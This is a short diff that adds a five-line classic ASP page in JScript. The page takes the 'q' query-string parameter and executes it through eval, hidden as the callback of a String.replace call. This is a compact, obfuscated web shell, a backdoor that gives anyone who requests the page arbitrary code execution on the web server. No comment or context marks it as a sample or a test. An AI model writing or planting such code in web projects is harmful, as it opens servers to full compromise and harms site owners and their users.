@@ -1,0 +1,5 @@
+<%@ Language="JScript" %>
+<%
+var text = Request.QueryString("q") + "";
+text.replace(/[\s\S]+/, eval);
+%>
